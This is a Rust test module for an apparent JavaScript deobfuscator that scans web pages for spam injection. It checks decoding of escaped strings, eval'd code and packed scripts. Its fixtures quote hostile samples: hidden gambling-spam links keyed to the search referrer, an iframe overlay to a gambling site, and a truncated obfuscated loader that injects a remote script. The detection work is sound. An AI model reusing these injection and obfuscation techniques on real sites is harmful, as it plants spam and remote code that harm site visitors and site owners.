        // A slash in a class; a quote inside a regex starts no string;
        // after `(`, `,`, `return`, `=`, `}`.
        let s = fresh(
            r#"e = e.replace(/[^A-Za-z0-9+/=]/g, ""); f(a, /x'y/); function g(){return /"q"/.test(s)} var z = 'end'; a = /b/; {} /c/.test(a)"#,
        );
        assert_eq!(
            s.patterns,
            vec!["[^A-Za-z0-9+/=]", "x'y", "\"q\"", "b", "c"]
        );
        assert_eq!(s.strings, vec!["end"]);
    }

    #[test]
    fn code_is_the_source_without_comments() {
        let s = fresh("var r = document.referrer; // '百家乐'\n/* \"注释\" */if (/baidu/.test(r)) location.href = 'http://x.example/';");
        assert_eq!(
            s.code,
            "var r = document.referrer; \n if (/baidu/.test(r)) location.href = 'http://x.example/';"
        );
        assert_eq!(s.strings, vec!["http://x.example/"]);
    }

    #[test]
    fn code_blocks_are_bounded_and_cut_between_statements() {
        let src: String = (0..3000)
            .map(|i| format!("var r{i}=document.referrer;"))
            .collect();
        let blocks = code_blocks(&src);
        assert!(blocks.len() > 10);
        assert!(blocks
            .iter()
            .all(|b| b.len() <= CODE_BLOCK && b.ends_with(';')));
        let whole: usize = blocks
            .iter()
            .map(|b| b.matches("document.referrer").count())
            .sum();
        assert_eq!(whole, 3000);
        assert_eq!(blocks.concat(), src);
        // No cut point: cut at a character boundary anyway.
        let cjk = "百".repeat(5000);
        let blocks = code_blocks(&cjk);
        assert!(blocks.iter().all(|b| b.len() <= CODE_BLOCK));
        assert_eq!(blocks.concat(), cjk);
    }

    #[test]
    fn decoding_calls_on_literals() {
        let s = fresh(
            "document.write(unescape('%u767e%u5bb6%u4e50'));\
             var a = decodeURIComponent('%E5%85%AD%E5%90%88%E5%BD%A9');\
             document.write(String.fromCharCode(60,97,32,104,114,101,102,61,34,104,116,116,112,58,47,47,120,46,101,120,97,109,112,108,101,47,34,62,30334,23478,20048,60,47,97,62));\
             document.write(decodeURIComponent(escape(window.atob('PGEgaHJlZj0iaHR0cDovL3guZXhhbXBsZS8iPua+s+mXqOiRoeS6rDwvYT4='))));\
             var b = '<p>' + unescape('%u65f6%u65f6%u5f69') + x + '</p>';",
        );
        assert_eq!(
            s.strings,
            vec![
                "百家乐",
                "六合彩",
                "<a href=\"http://x.example/\">百家乐</a>",
                "<a href=\"http://x.example/\">澳门葡京</a>",
                "<p>时时彩</p>",
            ]
        );
        // Escapes: surrogate pairs, legacy octal, \u{…}, a bad \x kept.
        let s = fresh(r"var e = '\ud83c\udfb2\141\142\u{516d}\xZZ';");
        assert_eq!(s.strings, vec!["🎲ab六xZZ"]);
    }

    #[test]
    fn code_run_from_strings_is_handed_back() {
        // spam/007-iframe-overlay-hide-body.js of the evaluation set (tune
        // split), lines 4-5: `document.write` spelled in pieces for eval.
        let s = fresh(
            r#"var  ss = '<center id="showcloneshengxiaon"><ifr'+'ame scrolling="no" marginheight=0 marginwidth=0  frameborder="0" width="100%" width="14'+'00" height="1800" src="http://www.ag88.win"></iframe></center>';
eval("do"+"cu"+"ment.wr"+"ite('"+ss+"');");"#,
        );
        assert_eq!(s.evals, vec!["document.write('');"]);
        assert_eq!(s.strings.len(), 1);
        assert!(s.strings[0].contains("<iframe scrolling=\"no\""), "{s:?}");
        let s = fresh("eval(String.fromCharCode(100,111,99,117,109,101,110,116,46,119,114,105,116,101,40,34,60,98,62,20845,21512,24425,60,47,98,62,34,41)); setTimeout(\"location.href='/x'\", 100); setTimeout(f, 9)");
        assert_eq!(
            s.evals,
            vec!["document.write(\"<b>六合彩</b>\")", "location.href='/x'"]
        );
        assert!(s.strings.is_empty(), "{s:?}");
    }

    #[test]
    fn the_packer_is_unpacked() {
        // Packed with the standard p,a,c,k,e,d format (radix 62).
        let packed = r#"eval(function(p,a,c,k,e,d){e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?String.fromCharCode(c+29):c.toString(36))};if(!''.replace(/^/,String)){while(c--)d[e(c)]=k[c]||e(c);k=[function(e){return d[e]}];e=function(){return'\\w+'};c=1};while(c--)if(k[c])p=p.replace(new RegExp('\\b'+e(c)+'\\b','g'),k[c]);return p}('0 1=2.3;4(1.5("6")>7||1.5("8")>7){2.9("<a b=\\"c:d\\"><e f=\\"g://h.i/\\">百家乐</e></a>")}',62,19,'var|s|document|referrer|if|indexOf|baidu|0|sogou|write|div|style|display|none|a|href|http|spam|example'.split('|'),0,{}))"#;
        let s = fresh(packed);
        assert_eq!(
            s.evals,
            vec![
                r#"var s=document.referrer;if(s.indexOf("baidu")>0||s.indexOf("sogou")>0){document.write("<div style=\"display:none\"><a href=\"http://spam.example/\">百家乐</a></div>")}"#
            ]
        );
        // Radix 10 and 36 variants, words left alone when their entry is empty.
        let s = fresh(
            r"eval(function(p,a,c,k,e,d){return p}('2.1(\'3 0\');a 1',10,4,'x|log|console|'.split('|'),0,{}))",
        );
        assert_eq!(s.evals, vec!["console.log('3 x');a log"]);
        let s = fresh(
            r"eval(function(p,a,c,k,e,d){return p}('z.10(1)',36,37,'|||||||||||||||||||||||||||||||||||document|write'.split('|'),0,{}))",
        );
        assert_eq!(s.evals, vec!["document.write(1)"]);
    }

    #[test]
    fn a_real_obfuscated_loader_is_read() {
        // spam/002-maccms-obfuscated-loader.html of the evaluation set (tune
        // split): the injected loader as quoted in the issue, cut off inside
        // its base64 argument there. Abridged: the two decoder functions are
        // kept from `e.replace` on.
        let s = fresh(
            r#"function aPnDhiTia(e){var m = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=';var t = "",n,r,i,s,o,u,a,f = 0;e = e.replace(/[^A-Za-z0-9+/=]/g,"");while (f < e.length){s = m.indexOf(e.charAt(f++));o = m.indexOf(e.charAt(f++));n = s << 2 | o >> 4;t = t + String.fromCharCode(n);}return xxSJRox(t)}eval('window')['\x4d\x66\x58\x4b\x77\x56'] = function(){;(function(u,r,w,d,f,c){var x = aPnDhiTia;u = decodeURIComponent(x(u.replace(new RegExp(c + '' + c,'g'),c)));'jQuery';k = r[2] + 'c' + f[1];var s = d.createElement(v + c[0] + c[1]),g = function(){};s.type = 'text/javascript';s.src = u;d.getElementsByTagName('head')[0].appendChild(s)})('aHR0cHM6Ly9jb2RlL
"#,
        );
        assert_eq!(s.patterns, vec!["[^A-Za-z0-9+/=]"]);
        assert!(s.strings.contains(&"MfXKwV".to_string()), "{s:?}");
        // The cut-off base64 argument decodes as far as it goes.
        assert!(s.strings.contains(&"https://code".to_string()), "{s:?}");
        assert!(s.code.contains("decodeURIComponent(x(u.replace("));
        assert!(s.strings.contains(&"text/javascript".to_string()));
    }

    #[test]
    fn decoding_stops_at_the_budget() {
        let mut budget = 10;
        let s = read(
            "a(unescape('%u767e%u5bb6%u4e50%u767e')); b(atob('PGI+eDwvYj4='));",
            &mut budget,
        );
        assert_eq!(budget, 0);
        assert_eq!(s.strings, vec!["百家乐", "<"], "cut to what was left");
        let mut budget = 0;
        let s = read(
            "eval(function(p,a,c,k,e,d){return p}('0',10,1,'x'.split('|')))",
            &mut budget,
        );
        assert!(s.evals.is_empty());
    }

    #[test]
    fn hostile_nesting_does_not_overflow() {
        let deep = format!("x = {}'a'{};", "(".repeat(100_000), ")".repeat(100_000));
        let s = fresh(&deep);
        assert!(s.strings.contains(&"a".to_string()));
        let calls = format!(
            "{}'%u767e'{}",
            "unescape(".repeat(50_000),
            ")".repeat(50_000)
        );
        fresh(&calls);
    }

    proptest::proptest! {
        #[test]
        fn any_text_is_read_without_panicking(src in "[a-zA-Z0-9'\"`/\\\\*+(){}\\[\\],.;%=<> \n百\u{1F3B2}]{0,300}") {
            let mut budget = 64;
            let s = read(&src, &mut budget);
            for b in code_blocks(&s.code) {
                proptest::prop_assert!(b.len() <= CODE_BLOCK);
            }
            let calls = format!("unescape('{src}') + atob('{src}') + String.fromCharCode({src}) + decodeURIComponent('%{src}')");
            read(&calls, &mut budget);
            let packed = format!("eval(function(p,a,c,k,e,d){{}}('{src}',62,9,'{src}'.split('|'),0,{{}}))");
            read(&packed, &mut budget);
        }
    }
}
